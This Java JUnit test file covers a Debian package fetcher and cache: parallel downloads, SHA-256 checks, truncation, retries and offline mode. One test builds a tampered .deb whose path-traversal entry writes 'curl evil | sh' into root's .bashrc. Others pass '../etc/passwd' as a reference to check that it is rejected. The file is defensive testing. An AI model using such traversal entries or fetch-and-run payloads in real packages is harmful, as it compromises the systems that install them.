package dev.distill.debian.fetch;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.distill.DistillException;
import dev.distill.debian.deb.TestDebs;
import dev.distill.net.HttpFetcher;
import dev.distill.progress.ProgressListener;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DebFetcherTest {
  @TempDir Path cacheDir;
  private LocalMirror mirror;
  private DebCache cache;
  private final List<String> events = new ArrayList<>();
  private final ProgressListener listener =
      new ProgressListener() {
        @Override
        public void started(String task, long total) {
          events.add("started " + total);
        }

        @Override
        public void advanced(String task, long done, long total) {
          events.add("advanced " + done + "/" + total);
        }

        @Override
        public void finished(String task) {
          events.add("finished");
        }
      };

  @BeforeEach
  void start() throws IOException {
    mirror = new LocalMirror();
    cache = new DebCache(cacheDir);
  }

  @AfterEach
  void stop() {
    mirror.close();
  }

  /** No proxy variables, quick retries: the tests talk only to 127.0.0.1. */
  private static HttpFetcher http() {
    return new HttpFetcher(Duration.ofSeconds(10), 2, Duration.ofMillis(5), Map.of());
  }

  private DebFetcher fetcher(boolean offline) {
    return new DebFetcher(cache, http(), 4, offline, listener);
  }

  private static byte[] deb(String name, String version) {
    return TestDebs.builder()
        .control("Package: " + name + "\nVersion: " + version + "\nArchitecture: amd64\n")
        .dir("./usr/")
        .file("./usr/" + name, 0644, name + " " + version + "\n")
        .build();
  }

  private DebRef publish(String name, String version, byte[] body) throws IOException {
    String filename =
        "pool/main/" + name.charAt(0) + "/" + name + "/" + name + "_" + version + "_amd64.deb";
    mirror.put(filename, body);
    return new DebRef(name, version, "amd64", filename, mirror.base(), sha256(body), body.length);
  }

  static String sha256(byte[] b) throws IOException {
    return DebCache.sha256(new ByteArrayInputStream(b));
  }

  /** Every file under the cache root, temp files included. */
  private List<Path> cacheFiles() throws IOException {
    try (Stream<Path> s = Files.walk(cacheDir)) {
      return s.filter(Files::isRegularFile).toList();
    }
  }

  @Test
  void downloadsInParallelIntoTheContentAddressedCacheWithProgress() throws IOException {
    List<DebRef> refs = new ArrayList<>();
    for (int i = 0; i < 6; i++) {
      refs.add(publish("pkg" + i, "1.0-" + i, deb("pkg" + i, "1.0-" + i)));
    }
    List<FetchedDeb> got = fetcher(false).fetchAll(refs);
    assertThat(got).extracting(FetchedDeb::ref).containsExactlyElementsOf(refs);
    assertThat(got).allMatch(FetchedDeb::downloaded);
    for (FetchedDeb f : got) {
      assertThat(f.path()).isEqualTo(cacheDir.resolve("debs/sha256/" + f.ref().sha256())).exists();
      assertThat(sha256(Files.readAllBytes(f.path()))).isEqualTo(f.ref().sha256());
    }
    assertThat(cacheFiles()).hasSize(6);
    assertThat(events).first().isEqualTo("started 6");
    assertThat(events).last().isEqualTo("finished");
    assertThat(events).contains("advanced 6/6");

    // A second run is served from the cache without touching the mirror.
    List<FetchedDeb> again = fetcher(false).fetchAll(refs);
    assertThat(again).noneMatch(FetchedDeb::downloaded);
    assertThat(mirror.hits(refs.get(0).filename())).isEqualTo(1);
  }

  @Test
  void readAllReadsIntactCopiesAloneAndFetchesOnlyWhatIsMissingOrDamaged() throws IOException {
    DebRef a = publish("alpha", "1.0-1", deb("alpha", "1.0-1"));
    DebRef b = publish("beta", "2.0-1", deb("beta", "2.0-1"));
    DebRef c = publish("gamma", "3.0-1", deb("gamma", "3.0-1"));
    List<DebRef> refs = List.of(a, b, c);
    assertThat(fetcher(false).readAll(refs))
        .extracting(p -> p.packageName())
        .containsExactly("alpha", "beta", "gamma");
    assertThat(mirror.hits(a.filename())).isEqualTo(1);

    // alpha's original is gone, its copy intact: read offline from the copy alone.
    Files.delete(cache.pathFor(a.sha256()));
    // beta's copy is damaged: made again from the cached original, still offline.
    Path betaCopy = cacheDir.resolve("debs/unpacked/" + b.sha256() + ".deb");
    byte[] damaged = Files.readAllBytes(betaCopy);
    damaged[damaged.length - 3] ^= 1;
    Files.write(betaCopy, damaged);
    assertThat(fetcher(true).readAll(refs))
        .extracting(p -> p.entries().get(p.entries().size() - 1).path())
        .containsExactly("usr/alpha", "usr/beta", "usr/gamma");
    assertThat(Files.readAllBytes(betaCopy)).isNotEqualTo(damaged);

    // gamma's copy and original both gone: fetched again (online), nothing else downloaded.
    Files.delete(cache.pathFor(c.sha256()));
    Files.delete(cacheDir.resolve("debs/unpacked/" + c.sha256() + ".deb"));
    assertThatThrownBy(() -> fetcher(true).readAll(refs))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("gamma");
    assertThat(fetcher(false).readAll(refs)).hasSize(3);
    assertThat(mirror.hits(c.filename())).isEqualTo(2);
    assertThat(mirror.hits(a.filename())).isEqualTo(1);
    assertThat(mirror.hits(b.filename())).isEqualTo(1);
  }

  @Test
  void aCachedFileThatFailsItsCheckIsDeletedAndFetchedAgain() throws IOException {
    DebRef ref = publish("hello", "1.0-1", deb("hello", "1.0-1"));
    Path p = fetcher(false).fetch(ref).path();
    Files.write(p, "rotten".getBytes());
    assertThat(cache.find(ref.sha256())).isEmpty();
    assertThat(p).doesNotExist();
    FetchedDeb again = fetcher(false).fetch(ref);
    assertThat(again.downloaded()).isTrue();
    assertThat(sha256(Files.readAllBytes(again.path()))).isEqualTo(ref.sha256());
    assertThat(mirror.hits(ref.filename())).isEqualTo(2);
  }

  @Test
  void tamperedWrongSha256IsRefusedAndNothingIsCached() throws IOException {
    byte[] good = deb("nginx", "1.22.1-9");
    DebRef ref = publish("nginx", "1.22.1-9", good);
    byte[] evil = deb("nginx", "1.22.1-9+evil");
    evil = Arrays.copyOf(evil, good.length); // same size, different bytes
    mirror.put(ref.filename(), evil);
    assertThatThrownBy(() -> fetcher(false).fetch(ref))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("nginx 1.22.1-9 (amd64)")
        .hasMessageContaining("failed its SHA-256 check")
        .hasMessageContaining("expected " + ref.sha256())
        .hasMessageContaining("nothing was cached");
    assertThat(cacheFiles()).isEmpty();
  }

  @Test
  void tamperedTruncatedDownloadIsRefusedAndNothingIsCached() throws IOException {
    byte[] good = deb("redis-server", "7.0.15-1");
    DebRef ref = publish("redis-server", "7.0.15-1", good);
    mirror.put(ref.filename(), Arrays.copyOf(good, good.length / 2));
    assertThatThrownBy(() -> fetcher(false).fetch(ref))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("redis-server 7.0.15-1 (amd64)")
        .hasMessageContaining("is truncated")
        .hasMessageContaining("Nothing was cached");
    assertThat(cacheFiles()).isEmpty();
  }

  @Test
  void aDownloadInterruptedMidStreamIsRetriedAndLeavesNothingBehind() throws IOException {
    byte[] good = deb("tzdata", "2024a-0+deb12u1");
    DebRef ref = publish("tzdata", "2024a-0+deb12u1", good);
    mirror.cutOffHalfway(ref.filename());
    assertThatThrownBy(() -> fetcher(false).fetch(ref))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("tzdata 2024a-0+deb12u1 (amd64)");
    assertThat(mirror.hits(ref.filename())).isEqualTo(3);
    assertThat(cacheFiles()).isEmpty();
  }

  @Test
  void anOverlongBodyIsRefused() throws IOException {
    byte[] good = deb("zlib1g", "1.2.13");
    DebRef ref = publish("zlib1g", "1.2.13", good);
    mirror.put(ref.filename(), Arrays.copyOf(good, good.length * 3));
    assertThatThrownBy(() -> fetcher(false).fetch(ref))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("is too long");
    assertThat(cacheFiles()).isEmpty();
  }

  @Test
  void tamperedTruncatedDebWhoseHashWasLockedIsRefusedAndNothingIsCached() throws IOException {
    // Even when the lock itself names the truncated file's hash, the .deb must read completely.
    byte[] good = deb("libc6", "2.36-9");
    byte[] cut = Arrays.copyOf(good, good.length - 100);
    DebRef ref = publish("libc6", "2.36-9", cut);
    assertThatThrownBy(() -> fetcher(false).fetch(ref))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("libc6 2.36-9 (amd64)")
        .hasMessageContaining("was refused")
        .hasMessageContaining("truncated")
        .hasMessageContaining("nothing was cached");
    assertThat(cacheFiles()).isEmpty();
  }

  @Test
  void tamperedDebWithADotDotEntryIsRefusedAndNothingIsCached() throws IOException {
    byte[] evil =
        TestDebs.builder()
            .control("Package: base-files\nVersion: 12.4\nArchitecture: amd64\n")
            .dir("./etc/")
            .file("./etc/../../root/.bashrc", 0644, "curl evil | sh\n")
            .build();
    DebRef ref = publish("base-files", "12.4", evil);
    assertThatThrownBy(() -> fetcher(false).fetch(ref))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("base-files 12.4 (amd64)")
        .hasMessageContaining("base-files_12.4_amd64.deb: ")
        .hasMessageContaining("'./etc/../../root/.bashrc'")
        .hasMessageContaining("'..'")
        .hasMessageContaining("nothing was cached");
    assertThat(cacheFiles()).isEmpty();
  }

  @Test
  void aDebThatIsAnotherPackageIsRefused() throws IOException {
    DebRef ref = publish("openssl", "3.0.15-1", deb("openssl", "3.0.0-1"));
    assertThatThrownBy(() -> fetcher(false).fetch(ref))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("is really openssl 3.0.0-1");
    assertThat(cacheFiles()).isEmpty();
  }

  @Test
  void aLockedFileGoneFromTheMirrorSaysWhichAndHowToFixIt() throws IOException {
    DebRef ref = publish("nginx", "1.22.1-9", deb("nginx", "1.22.1-9"));
    DebRef gone = ref.withMirror(mirror.base().resolve("/elsewhere/"));
    assertThatThrownBy(() -> fetcher(false).fetch(gone))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("nginx 1.22.1-9 (amd64) is gone from the mirror")
        .hasMessageContaining("404")
        .hasMessageContaining("distill lock")
        .hasMessageContaining("snapshot");
    assertThat(cacheFiles()).isEmpty();
  }

  @Test
  void offlineUsesOnlyTheCacheAndListsEveryMissingPackage() throws IOException {
    DebRef a = publish("aaa", "1", deb("aaa", "1"));
    DebRef b = publish("bbb", "2", deb("bbb", "2"));
    DebRef c = publish("ccc", "3", deb("ccc", "3"));
    fetcher(false).fetch(b);
    int hitsBefore = mirror.hits(a.filename()) + mirror.hits(c.filename());
    assertThatThrownBy(() -> fetcher(true).fetchAll(List.of(a, b, c)))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("2 package(s) are not in the cache")
        .hasMessageContaining("aaa 1 (amd64)")
        .hasMessageContaining("ccc 3 (amd64)")
        .hasMessageNotContaining("bbb 2")
        .hasMessageContaining("without --offline");
    assertThat(mirror.hits(a.filename()) + mirror.hits(c.filename())).isEqualTo(hitsBefore);
    FetchedDeb cached = fetcher(true).fetch(b);
    assertThat(cached.downloaded()).isFalse();
  }

  @Test
  void severalFailuresAreAllNamed() throws IOException {
    DebRef ok = publish("ok", "1", deb("ok", "1"));
    DebRef x = publish("x", "1", deb("x", "1")).withMirror(mirror.base().resolve("/gone/"));
    DebRef y = publish("y", "1", deb("y", "1")).withMirror(mirror.base().resolve("/gone/"));
    assertThatThrownBy(() -> fetcher(false).fetchAll(List.of(ok, x, y)))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("x 1 (amd64)")
        .hasMessageContaining("1 more download(s) failed")
        .hasMessageContaining("y 1 (amd64)");
    assertThat(cache.find(ok.sha256())).isPresent();
  }

  @Test
  void defaultCacheHonoursOverrides() {
    assertThat(DebCache.defaultRoot(Map.of("DISTILL_CACHE", "/tmp/dc"), "/home/u"))
        .isEqualTo(Path.of("/tmp/dc"));
    assertThat(DebCache.defaultRoot(Map.of("XDG_CACHE_HOME", "/x"), "/home/u"))
        .isEqualTo(Path.of("/x/distill"));
    assertThat(DebCache.defaultRoot(Map.of(), "/home/u"))
        .isEqualTo(Path.of("/home/u/.cache/distill"));
  }

  @Test
  void refusesMalformedReferences() {
    String hash = "a".repeat(64);
    java.net.URI m = java.net.URI.create("http://deb.debian.org/debian");
    assertThatThrownBy(() -> new DebRef("p", "1", "amd64", "pool/p.deb", m, "abc", 1))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("SHA-256");
    assertThatThrownBy(() -> new DebRef("p", "1", "amd64", "../etc/passwd", m, hash, 1))
        .isInstanceOf(DistillException.class)
        .hasMessageContaining("relative path inside the mirror");
    assertThatThrownBy(() -> new DebRef("p", "1", "amd64", "/etc/passwd", m, hash, 1))
        .isInstanceOf(DistillException.class);
    DebRef ok = new DebRef("p", "1", "amd64", "pool/main/p/p.deb", m, hash.toUpperCase(), 1);
    assertThat(ok.sha256()).isEqualTo(hash);
    assertThat(ok.uri()).hasToString("http://deb.debian.org/debian/pool/main/p/p.deb");
  }
}
